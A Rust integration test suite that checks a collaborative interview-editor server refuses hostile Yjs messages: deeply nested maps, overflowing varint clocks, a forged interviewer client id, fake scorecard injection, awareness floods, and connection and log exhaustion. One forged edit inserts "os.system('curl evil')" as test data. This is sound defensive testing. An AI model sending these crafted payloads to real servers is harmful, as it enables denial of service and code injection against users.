//! A hostile participant against the real server, through the real websocket: each scenario is
//! one of the attacks of issue 6, made with hand-built Yjs messages, and shows it no longer works
//! while the interview carries on.
#![allow(clippy::unwrap_used)] // a scenario: a failed unwrap is a failed test

use duet_protocol::{close, CreatedInterview, EventKind};
use duet_tests::{eventually, TestServer, YClient, PATIENCE};
use futures_util::SinkExt;
use std::time::Duration;
use tokio::io::AsyncReadExt;
use tokio_tungstenite::tungstenite::Message as Ws;
use yrs::sync::awareness::{AwarenessUpdate, AwarenessUpdateEntry};
use yrs::sync::{Message, SyncMessage};
use yrs::updates::decoder::Decode;
use yrs::updates::encoder::Encode;
use yrs::{Doc, Map, MapPrelim, OffsetKind, Options, ReadTxn, StateVector, Text, Transact, Update};

fn sync_update(update: Vec<u8>) -> Vec<u8> {
    Message::Sync(SyncMessage::Update(update)).encode_v1()
}

/// The interviewer and the candidate connected, the interviewer's "def solve(): ..." in the room.
struct Interview {
    created: CreatedInterview,
    interviewer: YClient,
    candidate: YClient,
}

const CODE: &str = "def solve():\n    return 42\n";

async fn interview(server: &TestServer) -> Interview {
    let created = server.create_interview("Ada").await;
    let interviewer = YClient::connect(&server.yjs_url(&created.id, &created.tokens.interviewer))
        .await
        .unwrap();
    let candidate = YClient::connect(&server.yjs_url(&created.id, &created.tokens.candidate))
        .await
        .unwrap();
    assert!(eventually(PATIENCE, || interviewer.synced() && candidate.synced()).await);
    interviewer.insert(0, CODE);
    assert!(eventually(PATIENCE, || candidate.text() == CODE).await);
    Interview {
        created,
        interviewer,
        candidate,
    }
}

impl Interview {
    /// The candidate's connection was closed with `code`; returns the reason.
    async fn candidate_closed_with(&self, code: u16) -> String {
        assert!(
            eventually(PATIENCE, || self.candidate.closed().is_some()).await,
            "the candidate is closed"
        );
        let closed = self.candidate.closed().unwrap();
        assert_eq!(closed.code, code, "reason: {}", closed.reason);
        closed.reason
    }

    /// The interviewer keeps typing, the server's stored log replays to exactly what it sees,
    /// and a participant joining now gets the same text.
    async fn carries_on(&self, server: &TestServer) {
        let len = self.interviewer.len();
        self.interviewer.insert(len, "# still here\n");
        let expected = self.interviewer.text();
        let late =
            YClient::connect(&server.yjs_url(&self.created.id, &self.created.tokens.reviewer))
                .await
                .unwrap();
        assert!(
            eventually(PATIENCE, || late.text() == expected).await,
            "a late joiner sees {:?}, not {:?}",
            late.text(),
            expected
        );
        let log = server.state.store.read_log(&self.created.id, 0).unwrap();
        assert_eq!(
            duet_core::rebuild(None, log).unwrap().text(),
            expected,
            "the log replays to what people saw"
        );
        assert!(self.interviewer.closed().is_none());
    }
}

#[tokio::test]
async fn a_chain_of_nested_types_is_refused_before_it_reaches_the_document() {
    let server = TestServer::start().await;
    let room = interview(&server).await;
    // Nested maps inside one another, then (in a second message) a delete of the outermost:
    // what overflowed yrs's recursive delete.
    let attacker = Doc::with_client_id(777);
    let chain = {
        let root = attacker.get_or_insert_map("m");
        let mut txn = attacker.transact_mut();
        let mut map = root.insert(&mut txn, "0", MapPrelim::default());
        for depth in 1..2_000 {
            map = map.insert(&mut txn, depth.to_string(), MapPrelim::default());
        }
        txn.encode_update_v1()
    };
    room.candidate.send_raw(sync_update(chain));
    let reason = room.candidate_closed_with(close::INVALID_PAYLOAD).await;
    assert!(
        reason.contains("only text may be inserted") || reason.contains("not"),
        "{reason}"
    );
    let log = server.state.store.read_log(&room.created.id, 0).unwrap();
    assert!(
        log.iter()
            .filter(|r| r.kind == EventKind::Edit)
            .all(|r| r.by == duet_protocol::Actor::Interviewer),
        "nothing of it is stored"
    );
    room.carries_on(&server).await;
}

#[tokio::test]
async fn a_socket_that_never_reads_cannot_make_the_server_queue_the_document_again_and_again() {
    let server = TestServer::start().await;
    let room = interview(&server).await;
    // A document of half a megabyte.
    let big = "x = 1  # padding the document to make every answer large\n".repeat(9_000);
    room.interviewer.insert(0, &big);
    assert!(eventually(PATIENCE, || room.candidate.len() > 500_000).await);
    // A reviewer asks for the whole document 3,000 times and reads nothing.
    let url = server.yjs_url(&room.created.id, &room.created.tokens.reviewer);
    let (mut ws, _) = tokio_tungstenite::connect_async(&url).await.unwrap();
    let step1 = Message::Sync(SyncMessage::SyncStep1(StateVector::default())).encode_v1();
    for _ in 0..3_000 {
        if ws.send(Ws::Binary(step1.clone().into())).await.is_err() {
            break; // closed as too slow: also fine
        }
    }
    let coalesced = || async {
        let text = reqwest::Client::new()
            .get(server.http("/metrics"))
            .bearer_auth(&server.admin_token)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        text.lines()
            .find_map(|l| l.strip_prefix("duet_replies_coalesced_total "))
            .and_then(|v| v.parse::<u64>().ok())
            .unwrap_or(0)
    };
    let mut folded = 0;
    for _ in 0..400 {
        folded = coalesced().await;
        if folded >= 2_900 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert!(
        folded >= 2_900,
        "at most one answer per socket is queued: {folded} of 3000 requests were folded into it"
    );
    room.carries_on(&server).await;
    drop(ws);
}

#[tokio::test]
async fn a_clock_that_overflows_32_bits_is_refused_so_nobody_runs_code_the_interviewer_cannot_see()
{
    let server = TestServer::start().await;
    let room = interview(&server).await;
    // One insert by a fresh client at clock 0, with the clock spelled in five bytes whose fifth
    // overflows 32 bits: yrs read it as 0, yjs as 2^32.
    let bytes = vec![
        1, 1, 0x92, 0x21, 0x80, 0x80, 0x80, 0x80, 0x10, 0x04, 1, 7, b'm', b'a', b'i', b'n', b'.',
        b'p', b'y', 8, b'i', b'm', b'p', b'o', b'r', b't', b' ', b'o', 0,
    ];
    room.candidate.send_raw(sync_update(bytes));
    let reason = room.candidate_closed_with(close::INVALID_PAYLOAD).await;
    assert!(
        reason.contains("varint") || reason.contains("range"),
        "{reason}"
    );
    assert_eq!(room.interviewer.text(), CODE);
    room.carries_on(&server).await;
}

#[tokio::test]
async fn the_candidate_cannot_write_under_the_interviewers_client_id() {
    let server = TestServer::start().await;
    let room = interview(&server).await;
    // A copy of the interviewer's document under its client id, one clock ahead.
    let forged = Doc::with_options(Options {
        client_id: room.interviewer.doc.client_id(),
        offset_kind: OffsetKind::Utf16,
        ..Options::default()
    });
    let state = room
        .interviewer
        .doc
        .transact()
        .encode_state_as_update_v1(&StateVector::default());
    forged
        .transact_mut()
        .apply_update(Update::decode_v1(&state).unwrap())
        .unwrap();
    let update = {
        let text = forged.get_or_insert_text(duet_protocol::MAIN_FILE);
        let mut txn = forged.transact_mut();
        text.insert(&mut txn, 0, "import os; os.system('curl evil')\n");
        txn.encode_update_v1()
    };
    room.candidate.send_raw(sync_update(update));
    let reason = room.candidate_closed_with(close::INVALID_PAYLOAD).await;
    assert!(reason.contains("belongs to the interviewer"), "{reason}");
    // The interviewer's next keystrokes are taken, not dropped as already known.
    room.interviewer.insert(0, "# mine\n");
    room.carries_on(&server).await;
    assert!(room.interviewer.text().starts_with("# mine\n"));
}

#[tokio::test]
async fn a_struct_that_names_itself_as_origin_cannot_empty_the_editor_for_late_joiners() {
    let server = TestServer::start().await;
    let room = interview(&server).await;
    // Client 9, clock 0, a string item whose origin is 9:0: itself (24 bytes on the wire).
    let bytes = vec![1, 1, 9, 0, 0x84, 9, 0, 1, b'x', 0];
    room.candidate.send_raw(sync_update(bytes));
    let reason = room.candidate_closed_with(close::INVALID_PAYLOAD).await;
    assert!(reason.contains("pending"), "{reason}");
    room.carries_on(&server).await;
}

#[tokio::test]
async fn nothing_but_main_py_can_be_written_into_the_shared_document() {
    let server = TestServer::start().await;
    let room = interview(&server).await;
    let fake = Doc::with_client_id(31337);
    let update = {
        let scorecard = fake.get_or_insert_map("scorecard");
        let mut txn = fake.transact_mut();
        scorecard.insert(&mut txn, "recommendation", "strong_yes");
        txn.encode_update_v1()
    };
    room.candidate.send_raw(sync_update(update));
    room.candidate_closed_with(close::INVALID_PAYLOAD).await;
    let seen = room
        .interviewer
        .doc
        .transact()
        .encode_state_as_update_v1(&StateVector::default());
    assert!(
        !String::from_utf8_lossy(&seen).contains("strong_yes"),
        "the interviewer never receives it"
    );
    room.carries_on(&server).await;
}

fn awareness(entries: &[(u64, u32, &str)]) -> Vec<u8> {
    let clients = entries
        .iter()
        .map(|(c, clock, json)| {
            (
                yrs::block::ClientID::new(*c),
                AwarenessUpdateEntry {
                    clock: *clock,
                    json: (*json).into(),
                },
            )
        })
        .collect();
    Message::Awareness(AwarenessUpdate { clients }).encode_v1()
}

#[tokio::test]
async fn presence_cannot_be_flooded_stolen_or_wrapped() {
    let server = TestServer::start().await;
    let room = interview(&server).await;
    let watcher =
        YClient::connect(&server.yjs_url(&room.created.id, &room.created.tokens.reviewer))
            .await
            .unwrap();

    // The interviewer's cursor, then a network blip (a second interviewer tab drops).
    let tab = YClient::connect(&server.yjs_url(&room.created.id, &room.created.tokens.interviewer))
        .await
        .unwrap();
    tab.set_awareness(4242, 1, r#"{"cursor":1}"#);
    assert!(
        eventually(PATIENCE, || watcher
            .awareness()
            .get(&4242)
            .is_some_and(|s| s.contains("interviewer")))
        .await
    );
    tab.close().await;
    assert!(
        eventually(PATIENCE, || watcher
            .awareness()
            .get(&4242)
            .is_some_and(|s| s == "null"))
        .await
    );

    // The candidate tries to take the interviewer's awareness id over: ignored.
    room.candidate.set_awareness(4242, 5, r#"{"cursor":99}"#);
    room.candidate.set_awareness(5151, 1, r#"{"cursor":2}"#);
    assert!(eventually(PATIENCE, || watcher.awareness().contains_key(&5151)).await);
    assert_eq!(
        watcher.awareness().get(&4242).map(String::as_str),
        Some("null"),
        "the id stays the interviewer's"
    );

    // The interviewer comes back and gets its id back.
    let back =
        YClient::connect(&server.yjs_url(&room.created.id, &room.created.tokens.interviewer))
            .await
            .unwrap();
    back.set_awareness(4242, 6, r#"{"cursor":3}"#);
    assert!(
        eventually(PATIENCE, || watcher
            .awareness()
            .get(&4242)
            .is_some_and(|s| s.contains("interviewer")))
        .await
    );

    // A clock at 2^32-1 would wrap to 0 on removal: refused.
    room.candidate
        .set_awareness(5151, u32::MAX, r#"{"cursor":2}"#);
    assert!(room
        .candidate_closed_with(close::POLICY)
        .await
        .contains("wrap"));

    // 40,000 ids from one socket: refused, and nobody draws them.
    let flooder =
        YClient::connect(&server.yjs_url(&room.created.id, &room.created.tokens.candidate))
            .await
            .unwrap();
    let many: Vec<(u64, u32, &str)> = (100_000..140_000).map(|c| (c, 1, "{}")).collect();
    flooder.send_raw(awareness(&many));
    assert!(eventually(PATIENCE, || flooder.closed().is_some()).await);
    assert_eq!(flooder.closed().unwrap().code, close::POLICY);
    assert!(
        watcher.awareness().len() < 10,
        "{} cursors drawn",
        watcher.awareness().len()
    );
}

#[tokio::test]
async fn the_document_has_a_size_cap_with_a_clear_reason() {
    let server = TestServer::start_with(|args| args.rooms.max_doc_bytes = 4_096).await;
    let room = interview(&server).await;
    room.candidate.insert(0, &"y".repeat(5_000));
    let reason = room.candidate_closed_with(close::POLICY).await;
    assert!(reason.contains("at most 4096 bytes"), "{reason}");
    assert_eq!(room.interviewer.text(), CODE);
    room.carries_on(&server).await;
}

#[tokio::test]
async fn a_token_holds_a_bounded_number_of_sockets() {
    let server = TestServer::start_with(|args| args.ws.max_per_token = 3).await;
    let created = server.create_interview("Ada").await;
    let url = server.yjs_url(&created.id, &created.tokens.reviewer);
    let mut open = Vec::new();
    for _ in 0..3 {
        open.push(YClient::connect(&url).await.unwrap());
    }
    let refused = YClient::connect(&url)
        .await
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(refused.contains("429"), "the fourth is refused: {refused}");
    let events = duet_tests::EventsClient::connect(
        &server.events_url(&created.id, &created.tokens.reviewer),
    )
    .await;
    assert!(events.is_err(), "the events socket counts too");
    // The candidate's token has its own places.
    assert!(
        YClient::connect(&server.yjs_url(&created.id, &created.tokens.candidate))
            .await
            .is_ok()
    );
    // Closing one frees a place.
    open.pop().unwrap().close().await;
    let mut reopened = None;
    for _ in 0..200 {
        if let Ok(c) = YClient::connect(&url).await {
            reopened = Some(c);
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert!(reopened.is_some());
}

#[tokio::test]
async fn reconnect_churn_does_not_flood_the_log() {
    let server = TestServer::start().await;
    let created = server.create_interview("Ada").await;
    let url = server.yjs_url(&created.id, &created.tokens.reviewer);
    for _ in 0..100 {
        let client = YClient::connect(&url).await.unwrap();
        assert!(eventually(PATIENCE, || client.synced()).await);
        client.close().await;
    }
    let presence = server
        .state
        .store
        .read_kinds(&created.id, &[EventKind::Join, EventKind::Leave])
        .unwrap();
    assert!(
        presence.len() <= 2,
        "100 reconnects wrote {} join/leave records",
        presence.len()
    );
}

#[tokio::test]
async fn silent_connections_are_closed_and_cannot_starve_the_server() {
    let server = TestServer::start_with(|args| {
        args.http.header_timeout_secs = 1;
        args.http.max_connections = 8;
    })
    .await;
    // Eight connections that never send a byte take every place.
    let mut silent = Vec::new();
    for _ in 0..8 {
        silent.push(tokio::net::TcpStream::connect(server.addr).await.unwrap());
    }
    // A real request still gets its answer once the silent ones are timed out.
    let health = tokio::time::timeout(PATIENCE, reqwest::get(server.http("/healthz"))).await;
    assert!(health.is_ok_and(|r| r.is_ok_and(|r| r.status() == 200)));
    for mut tcp in silent {
        let mut buf = [0u8; 64];
        let read = tokio::time::timeout(PATIENCE, tcp.read(&mut buf)).await;
        assert!(
            matches!(read, Ok(Ok(_)) | Ok(Err(_))),
            "the server closed the silent connection"
        );
    }
}

#[tokio::test]
async fn answers_are_not_sniffed_and_private_ones_are_not_cached() {
    let server = TestServer::start().await;
    let created = server.create_interview("Ada").await;
    let response = reqwest::Client::new()
        .get(server.http(&format!("/api/interviews/{}", created.id)))
        .bearer_auth(&created.tokens.candidate)
        .send()
        .await
        .unwrap();
    assert_eq!(response.headers()["x-content-type-options"], "nosniff");
    assert_eq!(response.headers()["cache-control"], "no-store");
}

#[tokio::test]
async fn an_interview_has_a_log_quota_with_a_clear_reason() {
    let server = TestServer::start_with(|args| args.rooms.max_log_mib = 1).await;
    let room = interview(&server).await;
    // Within the document cap, but typed and deleted over and over: the log fills up.
    let chunk = "z".repeat(200_000);
    for _ in 0..8 {
        if room.candidate.closed().is_some() {
            break;
        }
        room.candidate.insert(0, &chunk);
        room.candidate.delete(0, chunk.len() as u32);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let reason = room.candidate_closed_with(close::POLICY).await;
    assert!(reason.contains("log is full"), "{reason}");
    let stored: usize = server
        .state
        .store
        .read_log(&room.created.id, 0)
        .unwrap()
        .iter()
        .map(|r| r.data.len())
        .sum();
    assert!(
        stored < 2 << 20,
        "the log stopped near its quota: {stored} bytes"
    );
}

/// Reads a server's websocket frames (unmasked) from raw bytes until a close frame; returns its
/// code and reason, or `None` if the connection ended without one.
async fn read_until_close(stream: &mut tokio::net::TcpStream) -> Option<(u16, String)> {
    let mut buf = Vec::new();
    loop {
        // Parse whole frames off the front of the buffer.
        while buf.len() >= 2 {
            let opcode = buf[0] & 0x0f;
            let (len, header) = match buf[1] & 0x7f {
                126 if buf.len() >= 4 => (u16::from_be_bytes([buf[2], buf[3]]) as usize, 4),
                127 if buf.len() >= 10 => (
                    u64::from_be_bytes(buf[2..10].try_into().unwrap()) as usize,
                    10,
                ),
                126 | 127 => break,
                n => (n as usize, 2),
            };
            if buf.len() < header + len {
                break;
            }
            let payload = buf[header..header + len].to_vec();
            buf.drain(..header + len);
            if opcode == 8 {
                let code = u16::from_be_bytes([payload[0], payload[1]]);
                return Some((code, String::from_utf8_lossy(&payload[2..]).into_owned()));
            }
        }
        let mut chunk = [0u8; 4096];
        match stream.read(&mut chunk).await {
            Ok(0) | Err(_) => return None,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
}

#[tokio::test]
async fn a_peer_that_goes_silent_is_given_up_at_its_deadline_and_told_why() {
    // A half-open connection: the upgrade completes, then the peer never sends a frame again,
    // not even a pong to the server's pings. (A raw socket: a websocket library would answer
    // pings by itself.)
    let server = TestServer::start_with(|args| {
        args.ws.ping_secs = 1;
        args.ws.peer_deadline_secs = 2;
    })
    .await;
    let created = server.create_interview("Ada").await;
    let mut stream = tokio::net::TcpStream::connect(server.addr).await.unwrap();
    let request = format!(
        "GET /yjs/{}?token={} HTTP/1.1\r\nHost: {}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
        created.id, created.tokens.candidate, server.addr
    );
    tokio::io::AsyncWriteExt::write_all(&mut stream, request.as_bytes())
        .await
        .unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0u8; 1];
        stream.read_exact(&mut byte).await.unwrap();
        head.push(byte[0]);
    }
    assert!(
        String::from_utf8_lossy(&head).starts_with("HTTP/1.1 101"),
        "{}",
        String::from_utf8_lossy(&head)
    );

    let closed = tokio::time::timeout(PATIENCE, read_until_close(&mut stream))
        .await
        .expect("the server gives the silent peer up");
    assert_eq!(
        closed,
        Some((
            close::GOING_AWAY,
            "no frame or pong for 2 s; reconnect".to_owned()
        ))
    );
}
